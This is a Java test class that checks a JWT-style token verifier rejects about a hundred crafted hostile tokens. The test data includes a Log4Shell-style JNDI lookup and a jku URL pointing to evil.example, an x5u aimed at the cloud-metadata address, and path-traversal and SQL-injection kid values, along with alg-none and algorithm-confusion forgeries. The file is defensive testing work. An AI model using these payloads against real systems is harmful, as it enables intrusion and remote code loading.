package city.certfree.token.jose;

import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import city.certfree.crypto.KeyPurpose;
import city.certfree.crypto.Signer;
import city.certfree.crypto.json.Base64Url;
import city.certfree.kernel.DepartmentCode;
import city.certfree.token.ShowTokens;
import city.certfree.token.ShowTokens.Flaw;
import city.certfree.token.ShowTokens.Verification.Rejected;
import city.certfree.token.ShowTokens.Verification.Verified;
import java.math.BigInteger;
import java.time.Instant;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Attacks on the show token, each named and each answered by the flaw it has. Where no harm is said, the signature is good. */
class HostileTokensTest {
    private static final Instant NOW = Instant.parse("2026-11-23T06:32:05Z");
    private static final Signer SIGNER = Forge.RING.signer(KeyPurpose.SHOW);
    private static final String KID = SIGNER.kid();
    private static final String HEADER = Forge.header("show+jwt", KeyPurpose.SHOW);
    private static final String CLAIMS = ("{\"iss\":\"%s\",\"aud\":\"counters\",\"iat\":1795415525,\"exp\":1795415585,"
                    + "\"jti\":\"AAAAAAAAAAAAAAAAAAAAAA\",\"lid\":\"AAAAAAAAAAAAAAAAAAAAAA\","
                    + "\"ltc\":\"11370400XN00110108001\",\"hld\":\"王*明\",\"st\":\"VALID\"}")
            .formatted(SampleTokens.ISSUER);
    private static final String GOOD = signed(HEADER, CLAIMS);

    private final ShowTokens tokens = SampleTokens.show();

    @Test
    void takesTheTokenThatTheAttacksAreMadeOf() {
        assertInstanceOf(Verified.class, tokens.verify(GOOD, NOW));
    }

    static Stream<Arguments> headers() {
        return Stream.of(
                malformed("J-05 alg missing", header("\"alg\":\"ES256\",", "")),
                malformed("J-05 alg a number", header("\"ES256\"", "256")),
                malformed("J-05 alg a list", header("\"ES256\"", "[\"ES256\"]")),
                malformed("J-05 alg null", header("\"ES256\"", "null")),
                malformed("J-05 alg twice", header("\"alg\"", "\"alg\":\"none\",\"alg\"")),
                malformed("J-13 alg twice by an escape", header("\"alg\"", "\"\\u0061lg\":\"none\",\"alg\"")),
                malformed("J-13 alg in capitals beside it", header("\"alg\"", "\"ALG\":\"none\",\"alg\"")),
                malformed("J-09 jku", adding("\"jku\":\"https://evil.example/jwks.json\"")),
                malformed("J-09 x5u", adding("\"x5u\":\"http://169.254.169.254/\"")),
                malformed("J-10 jwk", adding("\"jwk\":{\"kty\":\"EC\",\"crv\":\"P-256\",\"x\":\"AA\",\"y\":\"AA\"}")),
                malformed("J-10 x5c", adding("\"x5c\":[\"MIIB\"]")),
                malformed("J-10 x5t", adding("\"x5t#S256\":\"AA\"")),
                malformed("J-12 crit", adding("\"crit\":[\"exp\"],\"exp\":1")),
                malformed("J-12 crit empty", adding("\"crit\":[]")),
                malformed("J-12 b64", adding("\"b64\":false,\"crit\":[\"b64\"]")),
                malformed("J-17 zip", adding("\"zip\":\"DEF\"")),
                malformed("J-18 p2c", adding("\"p2c\":2147483647")),
                malformed("J-25 typ missing", header(",\"typ\":\"show+jwt\"", "")),
                malformed("J-25 typ JWT", header("show+jwt", "JWT")),
                malformed("J-25 typ with its prefix", header("show+jwt", "application/show+jwt")),
                malformed("J-25 typ in capitals", header("show+jwt", "SHOW+JWT")),
                malformed("J-24 typ of an access token", header("show+jwt", "at+jwt")),
                malformed("J-05 kid missing", header("\"kid\":\"" + KID + "\",", "")),
                malformed("J-05 kid a number", header("\"" + KID + "\"", "1")),
                malformed("J-07 kid with NUL", header(KID, "a\\u0000b")),
                malformed("J-07 kid of 10,000 characters", header(KID, "k".repeat(10_000))),
                malformed("J-16 byte order mark", signed("\uFEFF" + HEADER, CLAIMS)),
                malformed("J-16 UTF-16", Forge.signed(HEADER.getBytes(UTF_16), CLAIMS.getBytes(UTF_8), SIGNER)),
                malformed("J-19 deep nesting", adding("\"a\":" + "[".repeat(500) + "]".repeat(500))),
                forged("J-01 alg none", header("ES256", "none")),
                forged("J-01 alg NONE and a blank", header("ES256", "NONE ")),
                forged("J-03 alg HS256", header("ES256", "HS256")),
                forged("J-04 alg ES384", header("ES256", "ES384")),
                forged("J-04 alg ES256K", header("ES256", "ES256K")),
                forged("J-04 alg EdDSA", header("ES256", "EdDSA")),
                forged("J-06 kid unknown", header(KID, "A".repeat(43))),
                forged(
                        "J-06 kid of the receipts' key",
                        header(KID, Forge.RING.signer(KeyPurpose.RECEIPT).kid())),
                forged("J-07 kid a path", header(KID, "../../dev/null")),
                forged("J-08 kid a statement", header(KID, "' UNION SELECT 1 --")),
                forged("J-08 kid a lookup", header(KID, "${jndi:ldap://evil.example/a}")));
    }

    static Stream<Arguments> claims() {
        return Stream.of(
                malformed("J-13 claim twice", claims("\"st\"", "\"st\":\"REVOKED\",\"st\"")),
                malformed("J-13 claim twice by an escape", claims("\"st\"", "\"\\u0073t\":\"REVOKED\",\"st\"")),
                malformed("J-13 nested claim twice", claims("\"st\"", "\"agt\":{\"a\":1,\"a\":2},\"st\"")),
                malformed("J-16 lone surrogate", claims("王", "\\ud800")),
                malformed("J-16 NUL", claims("王", "\\u0000")),
                malformed("J-16 overlong UTF-8", overlong()),
                malformed("J-19 number 1e400", claims("1795415585", "1e400")),
                malformed("J-20 exp missing", claims("\"exp\":1795415585,", "")),
                malformed("J-20 exp a text", claims("1795415585", "\"1795415585\"")),
                malformed("J-20 exp a fraction", claims("1795415585", "1795415585.0")),
                malformed("J-20 exp negative", claims("1795415585", "-1795415585")),
                malformed("J-20 exp 2^63", claims("1795415585", "9223372036854775808")),
                malformed("J-20 exp 2^63 - 1", claims("1795415585", "9223372036854775807")),
                malformed("jti missing", claims("\"jti\":\"AAAAAAAAAAAAAAAAAAAAAA\",", "")),
                malformed("jti in another form", claims("AAAAAA\",\"lid", "AAAAAB\",\"lid")),
                malformed("item code impossible", claims("\"st\"", "\"itm\":\"a b\",\"st\"")),
                malformed("fields not base64url", claims("\"st\"", "\"fld\":\"A\",\"st\"")),
                malformed("a claim not known", claims("\"st\"", "\"agt\":\"李*\",\"st\"")),
                forged("claims empty", signed(HEADER, "{}")),
                malformed("claims a list", signed(HEADER, "[]")),
                forged("J-21 issued in the future", times(NOW.getEpochSecond() + 6, 60)),
                forged("J-21 issued in ten years", times(NOW.getEpochSecond() + 315_360_000L, 60)),
                forged("J-20 lives 61 s", times(NOW.getEpochSecond(), 61)),
                forged("J-20 lives 59 s", times(NOW.getEpochSecond(), 59)),
                forged("J-22 another issuer", claims("certfree.zaozhuang", "certfree.zaozhvang")),
                forged("J-22 issuer with a slash", claims(":44300", ":44300/")),
                forged("J-22 issuer in capitals", claims("https://certfree", "https://Certfree")),
                forged("J-22 issuer with a homoglyph", claims("https://certfree", "https://сertfree")),
                forged("J-22 issuer missing", claims("\"iss\"", "\"hld2\"")),
                arguments("J-23 audience another", claims("counters", "counter"), Flaw.WRONG_AUDIENCE),
                arguments("J-23 audience longer", claims("counters", "counters2"), Flaw.WRONG_AUDIENCE),
                arguments("J-23 audience missing", claims("\"aud\":\"counters\",", ""), Flaw.WRONG_AUDIENCE),
                arguments("J-23 audience a list", claims("\"counters\"", "[\"counters\"]"), Flaw.WRONG_AUDIENCE),
                arguments(
                        "J-23 audience and another",
                        claims("\"counters\"", "[\"counters\",\"x\"]"),
                        Flaw.WRONG_AUDIENCE),
                arguments("J-20 expired just now", times(NOW.getEpochSecond() - 60, 60), Flaw.EXPIRED),
                arguments("J-20 expired long ago", times(0, 60), Flaw.EXPIRED));
    }

    static Stream<Arguments> forms() {
        var parts = GOOD.split("\\.", -1);
        var header = parts[0];
        var claims = parts[1];
        var signature = parts[2];
        return Stream.of(
                malformed("nothing", ""),
                malformed("J-32 dots only", ".."),
                malformed("J-32 no signature", header + "." + claims),
                malformed("J-32 an empty signature", header + "." + claims + "."),
                malformed("J-32 no claims", header + ".." + signature),
                malformed("J-32 a leading dot", "." + GOOD),
                malformed("J-32 a dot behind", GOOD + "."),
                malformed("J-14 five parts", GOOD + "." + claims + "." + signature),
                malformed(
                        "J-14 flattened JSON",
                        "{\"protected\":\"%s\",\"payload\":\"%s\",\"signature\":\"%s\"}"
                                .formatted(header, claims, signature)),
                malformed("J-15 padding", GOOD + "=="),
                malformed("J-15 a line behind", GOOD + "\n"),
                malformed("J-15 a blank before", " " + GOOD),
                malformed("J-15 a question mark inside", header + "?." + claims + "." + signature),
                malformed("J-15 the standard alphabet", Forge.signed(header + "." + claims + "+/", SIGNER)),
                malformed("J-15 padding inside, signed", Forge.signed(header + "." + claims + "=", SIGNER)),
                malformed("J-15 stray bits", header + "." + claims + "." + withStrayBits(signature)),
                malformed("J-19 4,097 characters", signed(HEADER, CLAIMS.replace("{", "{" + " ".repeat(3000)))),
                malformed("J-19 a million characters", "A".repeat(1_000_000)),
                malformed(
                        "J-24 another token of ours",
                        SampleTokens.access().issue("demo-system", NOW).text()),
                malformed("not a token but a code", "77010203040506070802"));
    }

    static Stream<Arguments> signatures() {
        byte[] good = Base64Url.decode(GOOD.split("\\.", -1)[2]);
        byte[] n = hex("FFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551");
        return Stream.of(
                forged("J-28 zeros", withSignature(new byte[64])),
                forged("J-28 63 bytes", withSignature(Arrays.copyOf(good, 63))),
                forged("J-28 65 bytes", withSignature(Arrays.copyOf(good, 65))),
                forged("J-28 r = 0", withSignature(joined(new byte[32], Arrays.copyOfRange(good, 32, 64)))),
                forged("J-28 s = n", withSignature(joined(Arrays.copyOf(good, 32), n))),
                forged("J-28 DER", withSignature(joined(hex("30440220"), good))),
                forged("another's signature", withSignature(SIGNER.sign(new byte[] {1}))),
                forged(
                        "J-22 an issuer's key under our kid",
                        Forge.signed(
                                HEADER.getBytes(UTF_8),
                                CLAIMS.getBytes(UTF_8),
                                Forge.RING.issuer(new DepartmentCode("1101")))));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource({"headers", "claims", "forms", "signatures"})
    void rejects(@SuppressWarnings("unused") String attack, String token, Flaw flaw) {
        assertEquals(new Rejected(flaw), tokens.verify(token, NOW));
    }

    /** J-28: n - s signs as well as s. That is no harm as long as use is counted by jti, which is the same. */
    @Test
    void readsTheSameOneTimeIdUnderATwinOfTheSignature() {
        byte[] good = Base64Url.decode(GOOD.split("\\.", -1)[2]);
        var n = new BigInteger("FFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551", 16);
        var s = new BigInteger(1, Arrays.copyOfRange(good, 32, 64));
        var twin = HexFormat.of().parseHex("%064x".formatted(n.subtract(s)));

        var verification = tokens.verify(withSignature(joined(Arrays.copyOf(good, 32), twin)), NOW);

        assertEquals(tokens.verify(GOOD, NOW), verification);
    }

    private static Arguments malformed(String attack, String token) {
        return arguments(attack, token, Flaw.MALFORMED);
    }

    private static Arguments forged(String attack, String token) {
        return arguments(attack, token, Flaw.FORGED);
    }

    private static String signed(String header, String claims) {
        return Forge.signed(header, claims, KeyPurpose.SHOW);
    }

    private static String header(String text, String instead) {
        return signed(HEADER.replace(text, instead), CLAIMS);
    }

    private static String adding(String member) {
        return header("{", "{" + member + ",");
    }

    private static String claims(String text, String instead) {
        return signed(HEADER, CLAIMS.replace(text, instead));
    }

    private static String times(long issuedAt, long lifetime) {
        return signed(
                HEADER, CLAIMS.replace("1795415525", "" + issuedAt).replace("1795415585", "" + (issuedAt + lifetime)));
    }

    /** A slash in two bytes, which no strict decoder takes. */
    private static String overlong() {
        byte[] claims = CLAIMS.replace("VALID", "AB").getBytes(UTF_8);
        int place = CLAIMS.replace("VALID", "AB").getBytes(UTF_8).length - 4;
        claims[place] = (byte) 0xC0;
        claims[place + 1] = (byte) 0xAF;
        return Forge.signed(HEADER.getBytes(UTF_8), claims, SIGNER);
    }

    /** The last of 86 characters carries four bits that mean nothing. */
    private static String withStrayBits(String signature) {
        char last = signature.charAt(85);
        return signature.substring(0, 85) + (char) (last + 1);
    }

    private static String withSignature(byte[] signature) {
        return GOOD.substring(0, GOOD.lastIndexOf('.') + 1) + Base64Url.encode(signature);
    }

    private static byte[] joined(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    private static byte[] hex(String text) {
        return HexFormat.of().parseHex(text);
    }
}
